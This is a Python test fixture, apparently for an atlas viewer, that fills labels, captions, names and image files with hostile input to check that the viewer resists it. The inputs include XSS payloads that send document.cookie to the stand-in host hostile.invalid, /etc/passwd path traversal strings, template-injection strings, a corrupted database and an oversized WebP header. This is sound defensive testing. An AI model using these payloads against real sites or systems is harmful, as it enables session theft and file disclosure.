"""Atlases as an enemy would make them: markup for labels, broken files, pictures that are none."""

from __future__ import annotations

import shutil
from pathlib import Path

import numpy as np

from fluxtionary.atlas import AtlasWriter, Example, Feature, Maps, Score
from fluxtionary.atlas.database import FILE
from fluxtionary.atlas.picture_files import picture_path
from fluxtionary.dictionaries import save_dictionary
from fluxtionary.dictionaries.fingerprint import fingerprint

from ..conftest import make_dictionary

MARK = "hostile.invalid"
"""A host that nothing may ever be asked of."""
RUN = f"window.broken=1;fetch('http://{MARK}/'+document.cookie)"
MARKUP = (
    f'<img src=x onerror="{RUN}">',
    f"<script>{RUN}</script>",
    f'"><svg onload="{RUN}">',
    f"' onmouseover='{RUN}' x='",
    f"javascript:{RUN}",
    f"<img src='http://{MARK}/a.png'>",
    f"<style>*{{background:url(http://{MARK}/b.png)}}</style>",
    "../../../../etc/passwd",
    "/etc/passwd",
    "${alert(1)} {{constructor.constructor('window.broken=1')()}}",
    f"[link](javascript:{RUN}) ![x](http://{MARK}/c.png)",
    "\u202egnp.elif \u0007\u001b[31m ends \ufeffhere " + "wide" * 60,
)
"""What stands where words should: labels, explanations, captions, names."""
NAMES = ("hostile", f"<img src=x onerror={RUN.replace('/', '')}>", "up%2f..%2f..%2fetc")
"""Folders of atlases. The first is the dictionary's of the same name."""
DICTIONARY = "hostile.safetensors"


def install(models: Path) -> list[Path]:
    """A dictionary with an atlas full of markup, two under odd names that are no dictionary's, and a corrupt one."""
    atlases = models / "flux_atlases"
    made = [atlases / name for name in (*NAMES, "corrupt")]
    dictionary = make_dictionary("double.1.img", 192)
    path = models / "flux_dictionaries" / DICTIONARY
    save_dictionary(dictionary, path)
    own = fingerprint(dictionary), dictionary.n_features
    write(made[0], *own, dictionary.kind)
    write(made[1], *own, MARKUP[0])
    for copy in made[2:]:
        shutil.copytree(made[1], copy)
    database = made[-1] / FILE
    whole = database.read_bytes()
    database.write_bytes(whole[:4096] + b"\xff" * 8192 + whole[12288:])
    return [*made, path]


def remove(paths: list[Path]) -> None:
    for path in paths:
        shutil.rmtree(path) if path.is_dir() else path.unlink()


def write(folder: Path, of: str, n_features: int, kind: str) -> None:
    about = {"kind": kind, "site": "double.1.img", "n_features": n_features, "model": {"name": MARKUP[1]}}
    header = {
        **{"fingerprint": of, "dictionary": about, "grid": [8, 8], "size": [32, 32], "sigmas": [1.0, 0.5]},
        **{"capture": {}, "title": MARKUP[2], "name": MARKUP[7]},
    }
    everything = np.arange(n_features, dtype=np.int32)
    maps = Maps(everything, everything % 64, np.ones(n_features, np.float32))
    count = len(MARKUP)
    with AtlasWriter.begin(folder, header) as writer:
        for number in range(count):
            pixels = np.full((32, 32, 3), 20 * number, np.uint8)
            writer.add(number, MARKUP[number], number, pixels, maps)
        features = [
            Feature(
                *(n, count, 0.1, 1.0, 2.0, 0.5, 0.5, (0.1, 0.2), (((n + 1) % n_features, 0.5),), 0.1),
                label=f"red {MARKUP[n % count]}",
                explanation=MARKUP[(n + 3) % count],
                scores={MARKUP[n % 3][:40]: Score(0.5, 0.4, 0.6, 9), "interp": Score(0.5, 0.4, 0.6, 9)},
            )
            for n in range(n_features)
        ]
        examples = [Example(p, 1.0, kind, p) for kind in ("top", "spread") for p in range(count)]
        writer.finish(iter(features), dict.fromkeys(range(n_features), examples))
    for number, content in enumerate((f"<html><script>{RUN}</script></html>".encode(), svg(), huge())):
        picture_path(folder, number).write_bytes(content)


def svg() -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'.encode()


def huge() -> bytes:
    """A WebP that claims 16,383 pixels each way."""
    return b"RIFF\x30\0\0\0WEBPVP8 \x24\0\0\0\x30\x01\0\x9d\x01\x2a\xff\x3f\xff\x3f" + bytes(32)
